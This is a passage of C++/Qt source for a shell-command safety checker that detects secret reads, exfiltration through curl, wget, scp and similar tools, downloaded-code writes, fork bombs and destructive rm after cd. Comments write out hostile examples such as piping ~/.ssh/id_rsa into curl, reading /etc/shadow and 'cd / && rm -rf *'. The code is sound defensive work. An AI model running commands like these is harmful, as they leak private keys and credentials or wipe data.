        candidates.append(word.mid(at + 1));
    const qsizetype eq = word.indexOf(u'=');
    if (eq >= 0)
        candidates.append(word.mid(eq + 1));
    const qsizetype lt = word.indexOf(u'<');
    if (lt >= 0)
        candidates.append(word.mid(lt + 1));
    for (QString candidate : std::as_const(candidates)) {
        // curl and the like read "~/x" after "@" themselves; bash leaves it as written.
        if (candidate.startsWith(u"~/"))
            candidate.replace(0, 1, ShellLexer::homeMarker());
        if (!candidate.isEmpty()
            && PathClassifier::isSecret(PathClassifier::resolve(candidate, m_cwd)))
            return true;
    }
    return false;
}

// The command, or one inside it, reads a secret: cat ~/.ssh/id_rsa, tar c ~/.gnupg,
// gpg --export-secret-keys, < /etc/shadow.
bool Assessor::readsSecrets(int index) const
{
    QList<int> pending{index};
    while (!pending.isEmpty()) {
        const int current = pending.takeLast();
        const ShellCommand &command = m_commands.at(current);
        for (const ShellRedirection &redirection : command.redirections) {
            if ((redirection.op == u"<" || redirection.op == u"<>") && redirection.fd <= 0
                && mentionsSecret(redirection.target))
                return true;
        }
        for (const Invocation &invocation : CommandUnwrapper::invocations(command.words)) {
            const QString name = CommandUnwrapper::programName(invocation.words.first());
            // ssh -i KEY logs in with the key; it does not pass it on.
            const bool usesKey = name.startsWith(u"ssh") || name == u"scp" || name == u"sftp";
            for (qsizetype i = 1; i < invocation.words.size(); ++i) {
                const QString &w = invocation.words.at(i);
                if (usesKey && (w == u"-i" || w == u"-f")) {
                    ++i;
                    continue;
                }
                if (w.startsWith(u"--export-secret") || mentionsSecret(w))
                    return true;
            }
        }
        pending += m_children.at(current);
    }
    return false;
}

// cat ~/.ssh/id_rsa | curl -d @- URL, curl -F f=@~/.ssh/id_rsa URL, scp ~/.ssh/id_rsa host:
void Assessor::assessExfiltration(int index, const Invocation &invocation)
{
    const QStringList &words = invocation.words;
    const QString name = CommandUnwrapper::programName(words.first());
    if (!isNetworkSender(name))
        return;
    bool leaks = false;
    if (name == u"curl") {
        const CommandOptions args = CommandOptions::parse(
            words,
            {u"AbcCdDeEFHKmoPQrtTuUwxXYyz",
             {QStringLiteral("data"), QStringLiteral("data-binary"), QStringLiteral("data-raw"),
              QStringLiteral("data-ascii"), QStringLiteral("data-urlencode"),
              QStringLiteral("form"), QStringLiteral("form-string"), QStringLiteral("upload-file"),
              QStringLiteral("json"), QStringLiteral("output"), QStringLiteral("header"),
              QStringLiteral("user"), QStringLiteral("url")},
             {}});
        QStringList uploads = args.values(u'd') + args.values(u'F') + args.values(u'T');
        for (const QStringView option :
             {u"data", u"data-binary", u"data-raw", u"data-ascii", u"data-urlencode", u"form",
              u"form-string", u"upload-file", u"json"})
            uploads += args.longValues(option);
        for (const QString &upload : std::as_const(uploads))
            leaks = leaks || mentionsSecret(upload);
    } else if (name == u"wget") {
        for (const QString &w : words.mid(1)) {
            if (w.startsWith(u"--post-file=") || w.startsWith(u"--body-file="))
                leaks = leaks || mentionsSecret(w);
        }
        for (qsizetype i = 1; i + 1 < words.size(); ++i) {
            if (words.at(i) == u"--post-file" || words.at(i) == u"--body-file")
                leaks = leaks || mentionsSecret(words.at(i + 1));
        }
    } else if (name == u"scp" || name == u"sftp" || name == u"rsync") {
        const CommandOptions args = CommandOptions::parse(
            words,
            {u"iFoPScJlDBe",
             {QStringLiteral("rsh"), QStringLiteral("rsync-path"), QStringLiteral("exclude"),
              QStringLiteral("include"), QStringLiteral("files-from"), QStringLiteral("filter"),
              QStringLiteral("port")},
             {}});
        bool remote = false;
        for (const QString &operand : args.operands)
            remote = remote || isRemoteOperand(operand);
        for (const QString &operand : args.operands) {
            if (remote && !isRemoteOperand(operand))
                leaks = leaks || mentionsSecret(operand);
        }
    } else if (name == u"http" || name == u"https" || name == u"xh") {
        for (const QString &w : words.mid(1)) {
            if (w.contains(u'@'))
                leaks = leaks || mentionsSecret(w);
        }
    }
    // What flows into it: standard input, the commands piped in, substitutions in its words.
    const ShellCommand &command = m_commands.at(index);
    for (const ShellRedirection &redirection : command.redirections) {
        if ((redirection.op == u"<" || redirection.op == u"<>") && redirection.fd <= 0)
            leaks = leaks || mentionsSecret(redirection.target);
    }
    int upstream = command.pipedFrom;
    for (int steps = 0; upstream >= 0 && steps < 64 && !leaks; ++steps) {
        leaks = readsSecrets(upstream);
        upstream = m_commands.at(upstream).pipedFrom;
    }
    for (const int child : m_children.at(index)) {
        const ShellCommand::Origin origin = m_commands.at(child).origin;
        if (origin == ShellCommand::Origin::CommandSubstitution
            || origin == ShellCommand::Origin::ProcessSubstitution)
            leaks = leaks || readsSecrets(child);
    }
    if (leaks)
        flag(Rule::SecretExfiltration);
}

// curl URL > x.sh, curl URL | tee x.sh: the file holds downloaded code, like curl -o x.sh.
void Assessor::recordDownloadedOutput(int index, const QList<Invocation> &invocations)
{
    bool downloads = false;
    QStringList targets;
    for (const Invocation &invocation : invocations) {
        const QString name = CommandUnwrapper::programName(invocation.words.first());
        downloads = downloads || isDownloader(name);
        if (name == u"tee") {
            downloads = downloads || stdinSources(index).remote;
            targets += CommandOptions::parse(invocation.words).operands;
        }
    }
    if (!downloads)
        return;
    for (const ShellRedirection &redirection : m_commands.at(index).redirections) {
        if (redirection.writesFile() && (redirection.fd < 0 || redirection.fd == 1))
            targets.append(redirection.target);
    }
    for (const QString &target : std::as_const(targets))
        m_downloads.insert(CommandUnwrapper::programName(target));
}

// name() { name | name & }; name — a function that starts itself in a pipe or the background.
void Assessor::assessForkBomb(int index, const QList<Invocation> &invocations)
{
    const ShellCommand &command = m_commands.at(index);
    if (command.function.isEmpty())
        return;
    if (command.pipedFrom < 0 && command.pipedTo < 0 && !command.background)
        return;
    for (const Invocation &invocation : invocations) {
        if (invocation.words.first() == command.function)
            flag(Rule::ForkBomb);
    }
}

// cd / && rm -rf *: relative paths are resolved against the directory cd'd into.
void Assessor::trackDirectory(const QList<Invocation> &invocations)
{
    if (invocations.size() != 1)
        return;
    const QStringList &words = invocations.first().words;
    const QString name = CommandUnwrapper::programName(words.first());
    if (name != u"cd" && name != u"pushd")
        return;
    QString target = ShellLexer::homeMarker();
    for (const QString &w : words.mid(1)) {
        if (w == u"-" || !w.startsWith(u'-')) {
            target = w;
            break;
        }
    }
    if (target == u"-") {
        m_cwd.clear();
        return;
    }
    const QString resolved = PathClassifier::resolve(target, m_cwd);
    m_cwd = resolved.startsWith(u'/') ? resolved : QString();
}

} // namespace

SafetyAssessment SafetyRules::assess(const QString &command)
{
    return Assessor(command).run();
}

} // namespace Terrarium::Core
